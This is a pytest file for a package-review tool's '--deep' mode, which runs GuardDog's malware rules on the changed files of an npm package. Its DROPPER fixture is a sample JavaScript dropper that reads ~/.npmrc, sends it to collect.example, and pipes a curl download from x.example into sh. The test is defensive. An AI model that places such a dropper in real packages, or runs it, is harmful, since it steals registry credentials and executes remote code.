"""`pystage review --deep`: GuardDog's rules over the added and changed files only, their
findings in the report (rule guarddog-<id>, the file and its line), nothing written,
and a one-line usage error before any request when GuardDog is not installed.

The GuardDog tests need the optional extra (pip install 'pystage-npm[guarddog]'); without
it they are skipped with the reason printed, in the skip line and as a warning."""

from __future__ import annotations

import json
import uuid
import warnings

import pytest

from pystage.review import deep

MISSING = deep.available()

DROPPER = (
    "const { exec } = require('child_process');\n"
    "const fs = require('fs');\n"
    "const os = require('os');\n"
    "const data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
    "require('https').request({host: 'collect.example', path: '/c?d=' + data}).end();\n"
    "exec('curl -s http://x.example/a.sh | sh');\n"
)


@pytest.fixture
def guarddog():
    if MISSING:
        reason = f"GuardDog is not installed ({MISSING}): pip install 'pystage-npm[guarddog]'"
        warnings.warn(f"review --deep not tested: {reason}", stacklevel=1)
        pytest.skip(reason)


@pytest.fixture
def reg(tmp_path, registry_server, run_pystage):
    user = registry_server.add_user("alice")
    npmrc = registry_server.write_npmrc(tmp_path / "npmrc", user)
    work, tmp = tmp_path / "work", tmp_path / "tmp"
    work.mkdir()
    tmp.mkdir()

    def review(*args):
        return run_pystage(
            "review",
            *args,
            "--registry",
            registry_server.url,
            "--userconfig",
            npmrc,
            cwd=work,
            env={"TMPDIR": str(tmp)},
            timeout=300,
        )

    def nothing_written():
        assert list(work.iterdir()) == [] and list(tmp.iterdir()) == []

    return registry_server, user, review, nothing_written


def test_deep_reports_guarddog_findings_on_changed_files_only(guarddog, reg):
    server, user, review, nothing_written = reg
    server.publish(
        user,
        "deep-pkg",
        "1.0.0",
        files={"index.js": "module.exports = 1;\n", "tools/old.js": DROPPER},
    )
    stage_id = server.stage(
        user,
        "deep-pkg",
        "1.0.1",
        files={
            "index.js": "module.exports = 1;\n" + DROPPER,  # changed
            "tools/old.js": DROPPER,  # the same bytes as the baseline's: not scanned
            "lib/new.js": DROPPER,  # added
        },
    )
    plain = json.loads(review(stage_id, "--json", "--fail-on", "never").stdout)
    assert not [f for f in plain["findings"] if f["rule"].startswith("guarddog-")]
    result = review(stage_id, "--json", "--deep", "--fail-on", "never")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    ours = [f for f in report["findings"] if f["rule"].startswith("guarddog-")]
    assert {f["path"] for f in ours} == {"index.js", "lib/new.js"}
    by = {(f["rule"], f["path"]): f for f in ours}
    read = by[("guarddog-threat-filesystem-read", "index.js")]
    assert read["severity"] == "medium" and read["line"] == 5  # .npmrc, one line lower
    assert read["message"].startswith("GuardDog: ")
    assert by[("guarddog-capability-process-spawn", "lib/new.js")]["severity"] == "info"
    assert all(f["severity"] != "high" for f in ours)  # a pattern alone never blocks
    human = review(stage_id, "--deep", "--fail-on", "never")
    assert "[guarddog-threat-filesystem-read]" in human.stdout
    nothing_written()


def test_guarddog_rules_scan_bytes_in_memory(guarddog):
    findings = deep.scan([("lib/x.js", DROPPER.encode()), ("README.md", DROPPER.encode())])
    assert {f.path for f in findings} == {"lib/x.js"}  # GuardDog skips .md files
    assert all(f.line and f.line >= 1 for f in findings)
    assert deep.scan([("lib/clean.js", b"module.exports = (a, b) => a + b;\n")]) == []


def test_deep_without_guarddog_is_a_usage_error_before_any_request(reg):
    if not MISSING:
        pytest.skip("GuardDog is installed: the error cannot happen here")
    server, _, review, nothing_written = reg
    before = server.log_text()
    result = review(str(uuid.uuid4()), "--deep")
    assert result.returncode == 2
    assert (
        result.stderr.splitlines()[0] == f"pystage error EUSAGE: --deep needs GuardDog: {MISSING}"
    )
    assert "pip install 'pystage-npm[guarddog]'" in result.stderr
    assert server.log_text() == before
    nothing_written()
